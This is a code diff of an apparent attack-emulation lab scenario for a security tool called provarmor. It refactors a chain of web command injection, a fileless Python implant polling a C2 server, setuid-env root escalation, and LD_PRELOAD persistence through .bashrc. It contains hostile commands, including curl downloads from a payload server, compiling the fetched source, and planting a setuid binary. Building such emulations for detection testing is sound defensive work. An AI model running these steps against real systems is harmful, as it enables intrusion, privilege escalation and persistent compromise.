@@ -16,24 +16,20 @@ from provarmor.lab import techniques as t
 from provarmor.lab.context import PYTHON, LabContext
 from provarmor.lab.payloads import harmless_preload_c
 from provarmor.lab.scenario import Action, Channel, Payload, Plan, Scenario, StepSpec
-from provarmor.lab.scenarios.implants import (
-    drop_dir,
-    fileless_start,
-    implant_payload,
-    ssh_public_key,
+from provarmor.lab.scenarios.implants import drop_dir, implant_payload, ssh_public_key
+from provarmor.lab.scenarios.steps import (
+    compile_downloaded,
+    download,
+    exploit_step,
+    implant_step,
+    setuid_copy,
+    start_implant,
+    web_exploit,
 )
 
 STEPS = (
-    StepSpec(
-        name="exploit",
-        summary="Command injection in the web application runs a shell as the web user.",
-        techniques=(t.EXPLOIT_PUBLIC_APP, t.UNIX_SHELL),
-    ),
-    StepSpec(
-        name="implant",
-        summary="A fileless Python implant starts and polls the C2 server over HTTP.",
-        techniques=(t.PYTHON, t.WEB_PROTOCOLS),
-    ),
+    exploit_step(),
+    implant_step(),
     StepSpec(
         name="setuid-escalation",
         summary="A setuid-root copy of env runs Python with euid 0, which takes full root "
@@ -87,16 +83,15 @@ def plan(ctx: LabContext) -> Plan:
     )
     ops_rc = f"{ctx.home(ctx.ops_user)}/.bashrc"
     return Plan(
-        setup_commands=(("cp", "/usr/bin/env", setuid_env), ("chmod", "4755", setuid_env)),
+        setup_commands=setuid_copy("/usr/bin/env", setuid_env),
         payloads=(implant, root_implant, preload_source),
         actions=(
-            Action(step="exploit", channel=Channel.WEBSHELL, command="id; ls -la /usr/local/bin"),
-            Action(step="implant", channel=Channel.WEBSHELL, command=fileless_start(ctx, implant)),
+            web_exploit("id; ls -la /usr/local/bin"),
+            start_implant(ctx, implant),
             Action(
                 step="setuid-escalation",
                 channel=Channel.IMPLANT,
-                command=f"mkdir -p {folder} && curl -s -o {dropped} "
-                f"{ctx.payload_url(root_implant.path)} "
+                command=f"{download(ctx, root_implant, dropped)} "
                 f"&& chmod 755 {folder} {dropped} && {become_root}",
             ),
             Action(
@@ -125,10 +120,10 @@ def plan(ctx: LabContext) -> Plan:
                 step="preload-and-rc",
                 channel=Channel.IMPLANT,
                 agent=root_agent,
-                command="d=$(mktemp -d) && curl -s -o $d/p.c "
-                f"{ctx.payload_url(preload_source.path)} && "
-                f"gcc -shared -fPIC -o {library} $d/p.c && rm -rf $d && "
-                f"echo 'export LD_PRELOAD={library}' >> {ops_rc}",
+                command=compile_downloaded(
+                    ctx, preload_source, library, flags="-shared -fPIC", scratch="p.c"
+                )
+                + f" && echo 'export LD_PRELOAD={library}' >> {ops_rc}",
             ),
         ),
         artifacts=(folder, setuid_env, library),
